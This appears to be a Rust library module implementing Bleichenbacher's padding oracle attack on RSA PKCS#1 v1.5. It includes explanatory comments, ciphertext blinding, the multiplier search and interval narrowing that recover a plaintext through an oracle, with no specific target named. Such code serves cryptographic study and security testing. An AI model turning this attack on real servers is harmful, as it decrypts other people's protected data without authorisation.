// Bleichenbacher's PKCS#1 v1.5 padding oracle attack
//
// A PKCS#1 v1.5 conforming plaintext starts with 00 02, so if the oracle
// accepts a ciphertext we know its plaintext lies in [2B, 3B), where
// B = 2^(8(k-2)) and k is the byte length of the modulus. k is counted in
// bytes, so a modulus whose bit length isn't a multiple of 8 still gets
// B = 2^(8(k-2)) with k rounded up.
//
// RSA is multiplicatively homomorphic: c * s^e decrypts to m * s (mod n). Each
// s the oracle accepts tells us that m * s - r * n lies in [2B, 3B) for some
// r, which cuts down the set of intervals m can be in. We keep looking for
// such s values, narrowing the intervals each time, until only a single value
// remains.
//
// The search for s gets cheaper as the intervals shrink. With one interval
// [a, b] left, the accepted s values are clustered around (2B + r * n) / m
// and we can jump straight to them, roughly halving the interval each round.
//
// See "Chosen Ciphertext Attacks Against Protocols Based on the RSA
// Encryption Standard PKCS #1", Bleichenbacher, CRYPTO '98.
use num_bigint::{BigUint, RandBigInt};
use num_integer::Integer;
use num_traits::{CheckedSub, One, Zero};
use rand::Rng;
use tracing::{debug, trace};

use crate::oracle::Metered;
use crate::rsa::interval::{Interval, IntervalSet};
use crate::{
    AttackError, BleichenbacherConfig, QueryBudget, Result, RsaPaddingOracle, RsaPublicKey,
};

/// State of a running Bleichenbacher attack.
///
/// Each call to [`step`](Self::step) finds the next conforming multiplier and
/// narrows the candidate intervals with it.
pub struct BleichenbacherAttack<'a, O: ?Sized> {
    oracle: Metered<'a, O>,
    key: &'a RsaPublicKey,
    two_b: BigUint,
    three_b: BigUint,
    blinding_factor: BigUint,
    blinded_ciphertext: BigUint,
    s: BigUint,
    round: usize,
    intervals: IntervalSet,
}

impl<'a, O: RsaPaddingOracle + ?Sized> BleichenbacherAttack<'a, O> {
    /// Set up the attack on `ciphertext`.
    ///
    /// If the ciphertext is not PKCS conforming itself, it is blinded with
    /// random factors until the oracle accepts it.
    pub fn new<R: Rng + ?Sized>(
        oracle: &'a O,
        key: &'a RsaPublicKey,
        ciphertext: &BigUint,
        rng: &mut R,
        budget: &'a QueryBudget,
    ) -> Result<Self> {
        let oracle = Metered::new(oracle, budget);
        let b = BigUint::one() << (8 * key.byte_len().saturating_sub(2));
        let two_b = &b * 2u32;
        let three_b = &b * 3u32;

        let mut blinding_factor = BigUint::one();
        let mut blinded_ciphertext = ciphertext % &key.n;
        let mut attempts = 0u64;
        while !oracle.rsa_padding_valid(&blinded_ciphertext)? {
            blinding_factor = rng.gen_biguint_range(&BigUint::one(), &key.n);
            blinded_ciphertext = key.blind(ciphertext, &blinding_factor);
            attempts += 1;
        }
        debug!(attempts, "found conforming ciphertext");

        let intervals = IntervalSet::from(Interval::new(two_b.clone(), &three_b - 1u32));
        Ok(Self {
            oracle,
            key,
            two_b,
            three_b,
            blinding_factor,
            blinded_ciphertext,
            s: BigUint::one(),
            round: 0,
            intervals,
        })
    }

    /// The intervals the blinded plaintext may still be in.
    pub fn intervals(&self) -> &IntervalSet {
        &self.intervals
    }

    /// The factor `s0` the plaintext was multiplied by before the attack.
    pub fn blinding_factor(&self) -> &BigUint {
        &self.blinding_factor
    }

    /// The conforming ciphertext `c * s0^e` the attack runs against.
    pub fn blinded_ciphertext(&self) -> &BigUint {
        &self.blinded_ciphertext
    }

    pub fn round(&self) -> usize {
        self.round
    }

    /// Run one round of the attack. Returns the plaintext once it's known.
    pub fn step(&mut self) -> Result<Option<BigUint>> {
        if let Some(plaintext) = self.solution()? {
            return Ok(Some(plaintext));
        }

        self.round += 1;
        self.s = if self.round == 1 {
            let start = self.key.n.div_ceil(&self.three_b);
            self.search_from(start)?
        } else if self.intervals.len() > 1 {
            self.search_from(&self.s + 1u32)?
        } else {
            self.search_single_interval()?
        };

        self.intervals = narrow(
            &self.intervals,
            &self.s,
            &self.key.n,
            &self.two_b,
            &self.three_b,
        );
        if self.intervals.is_empty() {
            return Err(AttackError::IntervalsExhausted);
        }
        debug!(
            round = self.round,
            intervals = self.intervals.len(),
            "narrowed intervals"
        );

        self.solution()
    }

    /// Run the attack to completion.
    pub fn run(mut self) -> Result<BigUint> {
        loop {
            if let Some(plaintext) = self.step()? {
                return Ok(plaintext);
            }
        }
    }

    fn solution(&self) -> Result<Option<BigUint>> {
        let Some(interval) = self.intervals.single().filter(|i| i.is_point()) else {
            return Ok(None);
        };
        let inverse = self
            .blinding_factor
            .modinv(&self.key.n)
            .ok_or(AttackError::NotInvertible)?;
        Ok(Some((&interval.low * inverse) % &self.key.n))
    }

    fn conforms(&self, s: &BigUint) -> Result<bool> {
        self.oracle
            .rsa_padding_valid(&self.key.blind(&self.blinded_ciphertext, s))
    }

    fn search_from(&self, mut s: BigUint) -> Result<BigUint> {
        while !self.conforms(&s)? {
            s += 1u32;
        }
        trace!(round = self.round, %s, "found conforming multiplier");
        Ok(s)
    }

    fn search_single_interval(&self) -> Result<BigUint> {
        let Some(Interval { low: a, high: b }) = self.intervals.single() else {
            return Err(AttackError::IntervalsExhausted);
        };
        let n = &self.key.n;

        let mut r = ((b * &self.s - &self.two_b) * 2u32).div_ceil(n);
        loop {
            let rn = &r * n;
            let mut s = (&self.two_b + &rn).div_ceil(b);
            let s_max = (&self.three_b + &rn).div_floor(a);
            while s <= s_max {
                if self.conforms(&s)? {
                    trace!(round = self.round, %s, %r, "found conforming multiplier");
                    return Ok(s);
                }
                s += 1u32;
            }
            r += 1u32;
        }
    }
}

/// Attack `ciphertext` with a PKCS#1 v1.5 padding oracle and return the
/// padded plaintext as an integer.
pub fn bleichenbacher_decrypt<O, R>(
    oracle: &O,
    key: &RsaPublicKey,
    ciphertext: &BigUint,
    rng: &mut R,
    config: &BleichenbacherConfig,
) -> Result<BigUint>
where
    O: RsaPaddingOracle + ?Sized,
    R: Rng + ?Sized,
{
    let budget = config.budget();
    let attack = BleichenbacherAttack::new(oracle, key, ciphertext, rng, &budget)?;
    let plaintext = attack.run()?;
    debug!(queries = budget.spent(), "bleichenbacher attack finished");
    Ok(plaintext)
}

/// Keep the parts of each interval that are consistent with `m * s` being
/// PKCS conforming.
fn narrow(
    intervals: &IntervalSet,
    s: &BigUint,
    n: &BigUint,
    two_b: &BigUint,
    three_b: &BigUint,
) -> IntervalSet {
    let three_b_minus_one = three_b - 1u32;
    let mut narrowed = IntervalSet::new();

    for Interval { low: a, high: b } in intervals {
        let mut r = (a * s)
            .checked_sub(&three_b_minus_one)
            .map(|x| x.div_ceil(n))
            .unwrap_or_else(BigUint::zero);
        let r_max = (b * s - two_b).div_floor(n);

        while r <= r_max {
            let rn = &r * n;
            let low = (two_b + &rn).div_ceil(s).max(a.clone());
            let high = (&three_b_minus_one + &rn).div_floor(s).min(b.clone());
            if low <= high {
                narrowed.insert(Interval::new(low, high));
            }
            r += 1u32;
        }
    }
    narrowed
}
